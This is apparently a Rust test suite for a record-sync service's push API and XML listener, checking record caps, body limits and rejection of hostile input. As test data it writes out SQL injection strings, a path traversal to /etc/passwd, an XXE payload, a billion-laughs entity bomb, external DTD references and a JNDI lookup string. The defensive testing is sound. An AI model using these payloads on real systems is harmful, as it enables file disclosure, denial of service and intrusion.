//! What a body may hold: how many records (case 3), how big and how deep, XML tricks on the
//! listener, injection-like ids and values, fields that are not synced.

use chrono::Utc;
use serde_json::{Value, json};

use super::*;

fn records(n: usize) -> Vec<(String, String)> {
    (0..n)
        .map(|i| (fake_id(1000 + i as u32), format!("bulk {i}")))
        .collect()
}

fn body_of(txn: &str, org_id: &str, recs: &[(String, String)]) -> String {
    let refs: Vec<(&str, &str)> = recs.iter().map(|(x, n)| (x.as_str(), n.as_str())).collect();
    push_body(txn, org_id, &Utc::now().to_rfc3339(), &refs).to_string()
}

/// Case 3: records per push are capped (default 200; `[api] max_records`), 413 naming the cap.
/// Before: 20,000 records in one request were accepted and written.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn too_many_records_are_a_413_naming_the_cap() {
    let env = start(Opts::default()).await;
    let a_id = env.org_id("a");
    let before = written(&env).await;
    for (case, n) in [("one over the default", 201), ("twenty thousand", 20_000)] {
        // the bare minimum per record, so that 20,000 fit under the test's max_body
        let recs: Vec<Value> = records(n)
            .iter()
            .map(|(x, _)| json!({"externalId": x}))
            .collect();
        let body = json!({"transactionId": format!("t-many-{n}"), "sourceOrgId": a_id,
            "object": "Work_Item__c", "timestamp": Utc::now().to_rfc3339(),
            "operation": "upsert", "records": recs});
        let a = push(&env, Some(TOKEN_A), &[], body.to_string()).await;
        refused(&env, &before, case, &a, 413, "200 records").await;
        assert!(a.error().contains("max_records"), "{case}: {a:?}");
        assert!(a.error().contains(&n.to_string()), "{case}: {a:?}");
    }
    // exactly the cap is fine
    let a = push(
        &env,
        Some(TOKEN_A),
        &[],
        body_of("t-200", &a_id, &records(200)),
    )
    .await;
    assert_eq!(a.status, 200, "{a:?}");
    env.shutdown().await;
}

/// The cap is configurable.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_record_cap_follows_the_config() {
    let env = start(Opts {
        api: "max_records = 3\n".into(),
        ..Opts::default()
    })
    .await;
    let a_id = env.org_id("a");
    let before = written(&env).await;
    let a = push(&env, Some(TOKEN_A), &[], body_of("t-4", &a_id, &records(4))).await;
    refused(
        &env,
        &before,
        "four over a cap of three",
        &a,
        413,
        "3 records",
    )
    .await;
    let a = push(&env, Some(TOKEN_A), &[], body_of("t-3", &a_id, &records(3))).await;
    assert_eq!(a.status, 200, "{a:?}");
    env.shutdown().await;
}

/// Bodies too big, too deep, not JSON, or with ids that are not ids (held already, except
/// control characters in a transactionId and non-scalar field values, refused since).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn malformed_and_hostile_bodies_are_refused() {
    let env = start(Opts::default()).await;
    let a_id = env.org_id("a");
    let valid = push_body(
        "t-body",
        &a_id,
        &Utc::now().to_rfc3339(),
        &[(&fake_id(50), "never")],
    );
    let with = |path: &[&str], v: Value| {
        let mut b = valid.clone();
        let mut at = &mut b;
        for p in &path[..path.len() - 1] {
            at = match p.parse::<usize>() {
                Ok(i) => &mut at[i],
                Err(_) => &mut at[*p],
            };
        }
        at[path[path.len() - 1]] = v;
        b.to_string()
    };
    let deep = format!("{}{}", "[".repeat(100_000), "]".repeat(100_000));
    let deep_record = with(
        &["records", "0", "Name"],
        serde_json::from_str(&format!("{}1{}", "[".repeat(120), "]".repeat(120))).unwrap(),
    );
    let cases: Vec<(&str, String, u16, &str)> = vec![
        (
            "larger than max_body",
            format!("{{\"x\": \"{}\"}}", "x".repeat(2 << 20)),
            413,
            "larger than the 1048576-byte limit",
        ),
        ("nested 100,000 deep", deep, 400, "not valid JSON"),
        ("not JSON", "<xml/>".into(), 400, "not valid JSON"),
        (
            "JSON but not an object",
            "[1, 2]".into(),
            400,
            "must be a JSON object",
        ),
        (
            "records not an array",
            with(&["records"], json!({"0": {}})),
            400,
            "records",
        ),
        (
            "SOQL in the externalId",
            with(&["records", "0", "externalId"], json!("x' OR Name != '")),
            400,
            "externalId",
        ),
        (
            "a path in the externalId",
            with(&["records", "0", "externalId"], json!("../../etc/passwd")),
            400,
            "externalId",
        ),
        (
            "an overlong externalId",
            with(&["records", "0", "externalId"], json!("a".repeat(300))),
            400,
            "at most 255",
        ),
        (
            "a control character in the transactionId",
            with(&["transactionId"], json!("t\u{1f}x")),
            400,
            "transactionId",
        ),
        (
            "a NUL in the transactionId",
            with(&["transactionId"], json!("t\u{0}x")),
            400,
            "transactionId",
        ),
        (
            "an overlong transactionId",
            with(&["transactionId"], json!("t".repeat(300))),
            400,
            "at most 255",
        ),
        (
            "SQL in the object",
            with(&["object"], json!("Work_Item__c; DELETE FROM records")),
            400,
            "object",
        ),
        (
            "an Id that is not an id",
            with(&["records", "0", "Id"], json!("001' OR '1'='1")),
            400,
            "15- or 18-character",
        ),
        ("a value nested 120 deep", deep_record, 400, "Name"),
    ];
    let before = written(&env).await;
    for (case, body, status, reason) in cases {
        let a = push(&env, Some(TOKEN_A), &[], body).await;
        refused(&env, &before, case, &a, status, reason).await;
    }
    env.shutdown().await;
}

/// Holds already: values that look like injections land verbatim; fields outside the sync
/// (including the global-id field and system fields) are ignored, never written.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn values_land_verbatim_and_unmapped_fields_are_ignored() {
    let env = start(Opts::default()).await;
    let (a_id, b_id) = (env.org_id("a"), env.org_id("b"));
    let values = [
        "'; DELETE FROM records; --",
        "\" OR 1=1 --",
        "<![CDATA[x]]><!ENTITY e SYSTEM \"file:///etc/passwd\">&e;",
        "{{7*7}} ${jndi:ldap://x/a} %s%n",
        "\u{202e}gnp.exe",
    ];
    let recs: Vec<Value> = values
        .iter()
        .enumerate()
        .map(|(i, v)| {
            json!({"attributes": {"type": "Work_Item__c"}, "externalId": fake_id(60 + i as u32), "Name": v, "Status__c": "New",
                   "Description__c": "not synced", "OwnerId": "005000000000001AAA", "IsDeleted": true,
                   "OrgSync_Global_Id__c": format!("{b_id}:{}", fake_id(99)), "Evil__c": "x"})
        })
        .collect();
    let body = json!({"transactionId": "t-values", "sourceOrgId": a_id, "timestamp": Utc::now().to_rfc3339(),
                      "operation": "upsert", "records": recs});
    let a = push(&env, Some(TOKEN_A), &[], body.to_string()).await;
    assert_eq!(a.status, 200, "{a:?}");
    assert!(env.engine.wait_idle(IDLE).await);
    let page = env
        .user("b")
        .await
        .query_page(
            "SELECT Name, Description__c, OrgSync_Global_Id__c FROM Work_Item__c",
            false,
        )
        .await
        .unwrap();
    assert_eq!(page.records.len(), values.len());
    for (i, v) in values.iter().enumerate() {
        let gid = format!("{a_id}:{}", fake_id(60 + i as u32));
        let r = page
            .records
            .iter()
            .find(|r| r["OrgSync_Global_Id__c"] == json!(gid))
            .unwrap_or_else(|| panic!("{gid} not on b: {page:?}"));
        assert_eq!(r["Name"], json!(v));
        assert_eq!(r["Description__c"], Value::Null);
    }
    env.shutdown().await;
}

pub fn envelope(org_id: &str, id: &str) -> String {
    format!(
        r#"<?xml version="1.0" encoding="UTF-8"?><soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Body><notifications xmlns="http://soap.sforce.com/2005/09/outbound"><OrganizationId>{org_id}</OrganizationId><ActionId>04k000000000001AAA</ActionId><Notification><Id>04l000000000001AAA</Id><sObject xsi:type="sf:Work_Item__c" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xmlns:sf="urn:sobject.enterprise.soap.sforce.com"><sf:Id>{id}</sf:Id><sf:Name>NAME</sf:Name></sObject></Notification></notifications></soapenv:Body></soapenv:Envelope>"#
    )
}

/// Holds already: the Outbound Messaging listener refuses DTDs, entities (XXE, billion
/// laughs), other orgs and oversize messages, and writes nothing.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_listener_refuses_xml_tricks() {
    let env = start(Opts {
        syncs: "[[sync]]\nobject = \"Work_Item__c\"\nfields = [\"Name\", \"Status__c\"]\ncapture = \"outbound\"\nbackup_interval = \"30m\"\n".into(),
        ..Opts::default()
    })
    .await;
    let valid = envelope(&env.org_id("a"), &fake_id(70));
    let prolog = r#"<?xml version="1.0" encoding="UTF-8"?>"#;
    let with_dtd = |dtd: &str| valid.replacen(prolog, &format!("{prolog}{dtd}"), 1);
    let laughs = (1..10).fold(
        String::from("<!DOCTYPE lolz [<!ENTITY lol0 \"lol\">"),
        |s, i| {
            s + &format!(
                "<!ENTITY lol{i} \"{}\">",
                format!("&lol{};", i - 1).repeat(10)
            )
        },
    ) + "]>";
    let cases: Vec<(&str, String, u16, &str)> = vec![
        (
            "XXE",
            with_dtd(r#"<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>"#)
                .replace("NAME", "&xxe;"),
            400,
            "DOCTYPE",
        ),
        (
            "billion laughs",
            with_dtd(&laughs).replace("NAME", "&lol9;"),
            400,
            "DOCTYPE",
        ),
        (
            "an external DTD",
            with_dtd(r#"<!DOCTYPE x SYSTEM "http://127.0.0.1:1/evil.dtd">"#),
            400,
            "DOCTYPE",
        ),
        (
            "a parameter entity",
            with_dtd(r#"<!DOCTYPE x [<!ENTITY % p SYSTEM "http://127.0.0.1:1/p">%p;]>"#),
            400,
            "DOCTYPE",
        ),
        (
            "an undeclared entity",
            valid.replace("NAME", "&xxe;"),
            400,
            "&amp;xxe;",
        ),
        (
            "not XML",
            "{\"json\": true}".into(),
            400,
            "notifications is missing",
        ),
        ("malformed XML", "<a><b></a>".into(), 400, "not well-formed"),
        (
            "another org's id",
            envelope(&env.org_id("b"), &fake_id(70)),
            403,
            "is not the id of org",
        ),
        (
            "larger than outbound_max_body",
            valid.replace("NAME", &"x".repeat(70 * 1024)),
            413,
            "outbound_max_body",
        ),
    ];
    let before = written(&env).await;
    for (case, body, status, reason) in cases {
        let a = outbound(&env, "a", body).await;
        refused(&env, &before, case, &a, status, reason).await;
    }
    env.shutdown().await;
}
